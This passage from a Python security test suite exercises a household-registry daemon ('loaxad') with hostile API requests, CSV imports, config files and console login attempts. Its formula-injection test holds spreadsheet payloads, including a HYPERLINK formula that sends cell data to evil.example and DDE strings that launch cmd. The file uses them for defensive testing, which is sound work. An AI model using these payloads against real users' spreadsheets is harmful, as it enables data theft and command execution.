    cx.login("limit-free")


LIMIT_CASES = [
    Fn("429 and Retry-After after login_attempts failures", limit_basic),
    Fn("failures of a name in other cases count together",
       limit_case_folded),
    Fn("forwarded-for headers change nothing", limit_forwarded_headers),
    Fn("malformed logins do not count", limit_bad_requests_do_not_count),
    Fn("invalid names are held back, real users not",
       limit_invalid_names),
    Fn("another name is not held back", limit_other_name_free),
]


# ---------------------------------------------------------------------------

def hostile_extra(tmp):
    return "\n".join([
        "[broadcast]", "quiet_hours =", "",
        "[route]", "chain = m", "",
        "[channel.m]", "driver = messenger",
        "url = http://127.0.0.1:9/send", "allow_http = yes",
        "access_token_file = %s/page-token" % tmp, ""])


class HostileCase(DaemonCase):
    def hostile_daemon(self, tcp=False, max_body=MAX_BODY, extra=""):
        d = self.daemon(start=False, tcp=tcp, api_extra="\n".join([
            "max_body = " + max_body,
            "timeout = %ds" % API_TIMEOUT_S,
            "max_connections = %d" % MAX_CONNECTIONS]), extra="@EXTRA@")
        d.write_config(d.config_text.replace(
            "@EXTRA@", hostile_extra(d.tmp) + ("\n" + extra if extra
                                               else "")))
        path = os.path.join(d.tmp, "page-token")
        fd = os.open(path, os.O_WRONLY | os.O_CREAT, 0o600)
        with os.fdopen(fd, "w") as f:
            f.write("page-token-for-tests\n")
        d.start()
        return d

    def status(self, d):
        r = d.get("/v1/status", timeout=10)
        self.assertStatus(r, 200)
        return r.body

    def wait_serving(self, d, timeout):
        deadline = time.monotonic() + timeout
        last = None
        while time.monotonic() < deadline:
            try:
                r = d.get("/v1/status", timeout=2.0)
                if r.status == 200:
                    return
                last = r
            except OSError as e:
                last = e
            time.sleep(0.1)
        self.fail("loaxad does not serve GET /v1/status any more: %r" %
                  (last,))

    def check_serving(self, d, name):
        self.assertTrue(d.running(), "loaxad died after case %r: exit %r"
                        % (name, d.proc.returncode))
        try:
            r = d.get("/v1/status", timeout=10)
        except OSError as e:
            self.fail("GET /v1/status after case %r: %r" % (name, e))
        self.assertStatus(r, 200, "after case %r" % name)

    def check_answer(self, r, expect, fields=()):
        """r matches one of expect [(status, code)]; the field errors
        include fields."""
        got_code = None
        if isinstance(r.body, dict) and isinstance(r.body.get("error"), dict):
            got_code = r.body["error"].get("code")
        ok = any(r.status == st and (code is None or code == got_code)
                 for st, code in expect)
        if not ok:
            self.fail("expected %s, got %r" % (
                " or ".join("%d %s" % (s, c or "") for s, c in expect), r))
        self.assertNotEqual(r.status, 500, r)
        if got_code is not None:
            self.assertError(r, r.status, got_code)
        if r.status == 422 and got_code in ("validation_failed", "invalid"):
            got = [(f.get("field"), f.get("code"))
                   for f in r.body["error"].get("fields", [])]
            for field, code in fields:
                self.assertTrue(any(f == field and (code is None or c == code)
                                    for f, c in got),
                                "no field error %s/%s among %r" %
                                (field, code, got[:20]))
        return r


class Api(HostileCase):
    def send(self, d, c):
        body = c.body() if callable(c.body) else c.body
        hdrs = dict(JSON) if isinstance(body, bytes) else {}
        if c.headers:
            hdrs.update(c.headers)
        return d.request(c.method, c.path, body=body, headers=hdrs,
                         timeout=60)

    def test_hostile_requests(self):
        d = self.hostile_daemon()
        self.assertGreaterEqual(len(API_CASES) + len(API_SPECIAL), 30)
        for c in API_CASES:
            with self.subTest(case=c.name):
                self.check_answer(self.send(d, c), c.expect, c.fields)
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving(d, c.name)
        # nothing above may have written anything
        self.assertEqual(self.status(d)["households"], 0)
        self.assertEqual(self.status(d)["groups"], 4)

    def test_hostile_sequences(self):
        d = self.hostile_daemon()
        for c in API_SPECIAL:
            with self.subTest(case=c.name):
                c.fn(self, d)
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving(d, c.name)


class CsvImport(HostileCase):
    def test_hostile_csv(self):
        d = self.hostile_daemon()
        self.assertGreaterEqual(len(CSV_CASES), 12)
        for c in CSV_CASES:
            before = self.status(d)["households"]
            with self.subTest(case=c.name):
                body = c.body if isinstance(c.body, bytes) else \
                    c.body.encode("utf-8")
                r = d.post("/v1/import?" + urllib.parse.urlencode(
                    {"group": c.group}), body, headers=CSV_CT, timeout=120)
                self.check_answer(r, c.expect, c.fields)
                if c.check:
                    c.check(self, d, r)
                after = self.status(d)["households"]
                if r.status != 200:
                    self.assertEqual(after, before, "an import that failed "
                                     "wrote households")
                elif c.created is not None:
                    self.assertEqual(after - before, c.created, r.body)
                    self.assertEqual(r.body["created"], c.created)
                else:
                    self.assertEqual(after - before, r.body["created"])
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving(d, c.name)

    def test_formula_injection(self):
        """Spreadsheet formulas in cells are stored verbatim; the export
        keeps them verbatim too (CSV-quoted where needed), so that
        importing the export back changes nothing."""
        d = self.hostile_daemon()
        names = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
                 "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", SQL]
        rows = [[n, "0977%06d" % (300000 + i)] for i, n in enumerate(names)]
        buf = io.StringIO()
        w = csv.writer(buf, lineterminator="\n")
        w.writerow(["ho_ten", "so_dien_thoai", "ghi_chu"])
        for n, p in rows:
            w.writerow([n, p, n])
        r = d.post("/v1/import?group=2A", buf.getvalue(), headers=CSV_CT)
        self.assertStatus(r, 200)
        self.assertEqual(r.body["rejected"], [])
        self.assertEqual(r.body["created"], len(names))
        got = {h["phones"][0]: h for h in
               d.get(H + "?limit=1000").body["households"]}
        for n, p in rows:
            h = got["+84" + p[1:]]
            # a leading tab is trimmed as whitespace; the rest is verbatim
            self.assertEqual(h["name"], n.strip(), h)
            self.assertEqual(h["note"], n.strip(), h)
        r = d.get("/v1/export?group=2A")
        self.assertStatus(r, 200)
        text = r.raw.decode("utf-8")
        exported = {row["phones"]: row for row in
                    csv.DictReader(io.StringIO(text))}
        for n, p in rows:
            self.assertEqual(exported["+84" + p[1:]]["name"], n.strip())
        # importing the export back changes nothing
        r = d.post("/v1/import", r.raw, headers=CSV_CT)
        self.assertStatus(r, 200)
        self.assertEqual((r.body["created"], r.body["updated"],
                          r.body["unchanged"]), (0, 0, len(names)), r.body)
        self.check_serving(d, "formula injection")


class ConfigFiles(DaemonCase):
    def check_config(self, tmp, c):
        path = os.path.join(tmp, "c.ini")
        sentinel = os.path.join(tmp, "pwned")
        data = c.content
        if isinstance(data, str):
            data = data.replace("@SENTINEL@", sentinel).encode("utf-8")
        with open(path, "wb") as f:
            f.write(data)
        try:
            p = subprocess.run([harness.LOAXAD, "--config", path,
                                "--check-config"], capture_output=True,
                               timeout=20, stdin=subprocess.DEVNULL)
        except subprocess.TimeoutExpired:
            self.fail("loaxad --check-config hung on %s" % c.name)
        err = p.stderr.decode("utf-8", "replace")
        for mark in SANITIZER_MARKS:
            self.assertNotIn(mark, err, err[-3000:])
        self.assertFalse(os.path.exists(sentinel), "a shell ran")
        self.assertEqual(p.returncode, c.rc, err[-2000:])
        if c.rc == 0:
            return
        lines = [x for x in err.splitlines() if x.strip()]
        self.assertTrue(lines, "exit 1 with nothing on stderr")
        # every line is a diagnostic about the file
        for x in lines:
            self.assertTrue(x.startswith(path + ":") or
                            x.startswith("loaxad:"), x)
        if c.line is None:
            want = re.compile(re.escape(path) + r": .*" + re.escape(c.needle),
                              re.I)
        elif c.line == "*":
            want = re.compile(re.escape(path) + r":\d+: .*" +
                              re.escape(c.needle), re.I)
        else:
            want = re.compile(re.escape(path) + ":%d: .*" % c.line +
                              re.escape(c.needle), re.I)
        self.assertTrue(any(want.match(x) for x in lines),
                        "no diagnostic %r in:\n%s" % (want.pattern,
                                                      err[:3000]))

    def test_hostile_config(self):
        self.assertGreaterEqual(len(CONF_CASES), 10)
        with tempfile.TemporaryDirectory(prefix="loaxa-hostile-") as tmp:
            for c in CONF_CASES:
                with self.subTest(case=c.name):
                    self.check_config(tmp, c)


# ---------------------------------------------------------------------------
# The console daemon: users, sessions and fixtures (see CONSOLE_CASES).

CONSOLE_USERS = [("an", "admin", None), ("lan", "official", None),
                 ("minh", "manager", ["2A"]), ("hoa", "manager", ["2B"]),
                 ("tuan", "official", None), ("vy", "official", None)]


def session_cookie(resp):
    sc = resp.headers.get("set-cookie", "")
    m = re.match(r"loaxa_session=([^;]*)", sc)
    return (m.group(1) if m else None), sc


class ConsoleCtx:
    """The console daemon and what the cases need of it: sessions
    (cookie[who], csrf[who]), tokens, fixture ids, and every secret handed
    out (none may show up in an error, the audit log or the log)."""

    def __init__(self, t, d):
        self.t, self.d = t, d
        self.cookie, self.csrf, self.token, self.ids = {}, {}, {}, {}
        self.secrets = [PW, harness.Daemon.TOKEN]

    def login(self, name, password=PW):
        r = self.d.post(LOGIN, login(name, password), tcp=True)
        self.t.assertStatus(r, 200)
        cookie, sc = session_cookie(r)
        self.t.assertTrue(cookie, sc)
        self.secrets += [cookie, r.body["csrf"]]
        return cookie, r.body["csrf"]

    def req(self, method, path, body=None, who=None, cookie=None,
            csrf=None, headers=None):
        h = {}
        if who:
            cookie, csrf = self.cookie[who], self.csrf[who]
        if cookie:
            h["Cookie"] = "loaxa_session=" + cookie
        if csrf and method not in ("GET", "HEAD"):
            h["X-CSRF-Token"] = csrf
        if headers:
            h.update(headers)
        return self.d.request(method, path, body=body, headers=h, tcp=True)

    def get(self, path, **kw):
        return self.req("GET", path, **kw)

    def all_secrets(self):
        return [s for s in self.secrets if s]


class ConsoleForms(HostileCase):
    def ok(self, resp, status=200):
        self.assertStatus(resp, status)
        return resp.body

    def console(self, attempts):
        d = self.hostile_daemon(tcp=True, max_body=CONSOLE_MAX_BODY,
                                extra="[console]\nlogin_attempts = %d\n"
                                % attempts)
        cx = ConsoleCtx(self, d)
        for name, role, groups in CONSOLE_USERS:
            body = newuser(name=name, role=role)
            if groups:
                body["groups"] = groups
            self.ok(d.post(U_, body), 201)
        return cx

    def send_console(self, cx, c):
        body = c.body() if callable(c.body) else c.body
        hdrs = dict(JSON) if isinstance(body, bytes) else {}
        if c.who in cx.cookie:
            hdrs["Cookie"] = "loaxa_session=" + cx.cookie[c.who]
            if c.csrf is CSRF_OK:
                if c.method not in ("GET", "HEAD"):
                    hdrs["X-CSRF-Token"] = cx.csrf[c.who]
            elif c.csrf is not None:
                hdrs["X-CSRF-Token"] = c.csrf(cx) if callable(c.csrf) \
                    else c.csrf
        if c.headers:
            hdrs.update(c.headers(cx) if callable(c.headers) else c.headers)
        hdrs = {k: v for k, v in hdrs.items() if v is not None}
        path = c.path(cx) if callable(c.path) else c.path
        r = cx.d.request(c.method, path, body=body, headers=hdrs,
                         tcp=c.who != "unix", timeout=60)
        r.sent_cookie = hdrs.get("Cookie")
        return r

    def check_no_leak(self, cx, r, sent_cookie=None):
        """A refused request gets no secret back and no new session: a
        Set-Cookie clears, or refreshes the session that was sent."""
        if r.status < 400:
            return
        for s in cx.all_secrets():
            self.assertNotIn(s.encode(), r.raw, "a secret in %r" % (r,))
        got, sc = session_cookie(r)
        if got and "Max-Age=0" not in sc:
            sent = sent_cookie or ""
            if isinstance(sent, bytes):
                sent = sent.decode("latin-1")
            self.assertIn("loaxa_session=" + got, sent,
                          "a refused request got a new session: %s" % sc)

    def check_serving_tcp(self, d, name):
        self.check_serving(d, name)
        r = d.get("/v1/status", tcp=True, timeout=10, headers={
            "Authorization": "Bearer " + d.TOKEN})
        self.assertStatus(r, 200, "on TCP after case %r" % name)

    def check_log_clean(self, d):
        """No error (priority 0..3) in loaxad's log."""
        bad = [x for x in d.log().splitlines() if re.match(r"<[0-3]>", x)]
        self.assertEqual(bad, [], "errors in loaxad's log")

    def test_console_forms(self):
        cx = self.console(CONSOLE_ATTEMPTS)
        d = cx.d
        for who, name in (("admin", "an"), ("official", "lan"),
                          (M, "minh")):
            cx.cookie[who], cx.csrf[who] = cx.login(name)
        t = self.ok(d.post(U_ + "/minh/tokens", {"label": "hostile"}), 201)
        cx.token[M], cx.ids["minh-token"] = t["token"], t["id"]
        cx.secrets.append(t["token"])
        cx.ids["a2"] = self.ok(d.post(H, hh(group="2A")), 201)["id"]
        cx.ids["b2"] = self.ok(d.post(H, hh(group="2B")), 201)["id"]
        self.assertGreaterEqual(len(CONSOLE_CASES) + len(CONSOLE_SPECIAL),
                                40)
        for c in CONSOLE_CASES:
            with self.subTest(case=c.name):
                r = self.send_console(cx, c)
                self.check_answer(r, c.expect, c.fields)
                self.check_no_leak(cx, r, r.sent_cookie)
                if c.check:
                    c.check(self, cx, r)
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving_tcp(d, c.name)
        for c in CONSOLE_SPECIAL:
            with self.subTest(case=c.name):
                c.fn(self, cx)
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving_tcp(d, c.name)
        self.check_log_clean(d)

    def test_login_limiter(self):
        cx = self.console(LIMIT_ATTEMPTS)
        d = cx.d
        names = ["limit-%c" % (ord("a") + i) for i in range(len(LIMIT_CASES))]
        for name in names + ["limit-free"]:
            self.ok(d.post(U_, newuser(name=name)), 201)
        for c, name in zip(LIMIT_CASES, names):
            with self.subTest(case=c.name):
                c.fn(self, cx, name)
            with self.subTest(case=c.name, check="keeps serving"):
                self.check_serving_tcp(d, c.name)
        self.check_log_clean(d)


if __name__ == "__main__":
    harness.main()
